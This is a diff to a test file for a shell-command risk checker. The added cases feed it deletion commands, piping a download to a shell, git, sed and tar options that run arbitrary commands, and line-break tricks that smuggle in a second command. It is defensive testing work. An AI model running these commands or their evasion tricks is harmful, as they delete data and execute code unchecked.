@@ -54,6 +54,15 @@ describe('a command', () => {
 		'/usr/bin/make',
 		'python3 -m http.server; deno fmt src; bun install',
 		'git config list; git config get user.name',
+		'git commit -m "test: sh -c in a shell; node -e, and --exec"',
+		'git rebase -i main; git clean -n; git submodule update --init; git bisect start; git push -u origin main',
+		'grep -rn node -e python src | sort -u; which python; mkdir node; cat sh',
+		'npm install -D node; npx vitest run; npm run -s build',
+		"sed -n '1,40p' src/a.ts; sed -n '2~3p;$!d' a",
+		"sed -i -E 's/[^a-z[:digit:]]+(e|w)/e \\1/g; /x/d' a b",
+		"sed -e 's|a/b|c/d|g' -e '1i import e' a; sed ':a;N;$!ba;s/\\n/ /g' a",
+		'tar -xzf Files.tgz -C src; tar czf e.tgz src; tar -cf- src | tar tf -',
+		'rm -rf src/[a-z]* *.log',
 	])('without a risk: %s', line => {
 		expect(command(line)).toBe('');
 	});
@@ -65,6 +74,15 @@ describe('a command', () => {
 		['rm -r *', 'deletes'],
 		['rm -rf ./', 'deletes'],
 		['rm -rf .[!.]*', 'deletes hidden'],
+		['rm -rf [a-z]*', 'deletes'],
+		['rm -rf ./[!x]*/', 'deletes'],
+		['rm -rf */*', 'deletes'],
+		['rm --recurs ?*', 'deletes'],
+		['rm -rf /[a-z]*', 'deletes outside'],
+		['git clean -fdx', 'deletes'],
+		['git -C src clean -d --force', 'deletes'],
+		['git clone -c core.fsmonitor=x a b', 'git-settings'],
+		['git clone --config=core.fsmonitor=x a b', 'git-settings'],
 		['echo x > /etc/hosts', 'outside'],
 		['echo x>>../other', 'outside'],
 		['cp a ~/b', 'outside'],
@@ -175,6 +193,48 @@ describe('a command', () => {
 		'. ./x',
 		'awk 1 a',
 		'ls src/../a',
+		'busybox sh -c "wget -qO- x | sh"',
+		'git rebase -x "wget -qO- x | sh" HEAD~1',
+		'git rebase --ex=id main',
+		'git bisect run sh -c id',
+		'git submodule foreach x',
+		'git clone -u x a b',
+		'git fetch --upload-pack=x',
+		'git grep -Ox a',
+		'sed -n "1e cmd" f',
+		"sed 's/a/id/e' f",
+		"sed 's|a|id|ge' f",
+		"sed -ne 's/[/]/e id/;p' f",
+		"sed 's/[]/]/;e id/' f",
+		"sed -E --exp='1!e id' f",
+		"sed '/a/{e id\n}' f",
+		"sed 's/a/b/w src' f",
+		"sed '' -e 'e id' f",
+		"sed '$!{p;e' f",
+		'sed -f x f',
+		'tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id src',
+		'tar -cf a.tar --checkpoint-act=exec=id src',
+		'tar -xf a.tar --to-command=id',
+		'tar -xf a.tar -I x',
+		'tar xIf x a.tar',
+		'gtar --use-compress-program x -xf a.tar',
+		'npx -c "id"',
+		'npm exec --call "id"',
+		'tmux new -d "id"',
+		'screen -dm x',
+		'flock f id',
+		'at now',
+		'crontab f',
+		'strace ls',
+		'docker exec box bash -lc id',
+		'uv run python -c 1',
+		'uv run python - < a',
+		'cat a | uv run python',
+		'/opt/x /bin/sh -c id',
+		'rsync -ae x a b',
+		'rg --pre x a',
+		'go test -exec x',
+		'make --eval=x',
 		'ls\u00a0a',
 		'ls\r\nid',
 		'echo \\\r\nrm -rf src',
@@ -198,6 +258,17 @@ describe('a command', () => {
 		expect(command(`"${'\\"'.repeat(8000)}`)).toBe('unread');
 		expect(command(`ls ${'a/'.repeat(8000)}`)).toBe('unread');
 		expect(command(`rm -r ${'a '.repeat(8000)}`)).toBe('deletes unread');
+	});
+
+	it.each(['b', 'q1', 's|a|b|g', 'y|a|b|', 'a', ' ', ';', '!', '1', '1d', 'i[', '|', '|[', 's|[a]'])(
+		'is looked at once, also where a script of sed is %j again and again',
+		part => {
+			expect(command(`sed '${part.repeat(Math.floor(16_000 / part.length))}\n@' f`)).toContain('unread');
+		},
+	);
+
+	it('of sed is plain where it only says how text changes', () => {
+		expect(command(`sed '${'s|a|b|g;'.repeat(400)}' f`)).toBe('');
 	});
 });
 
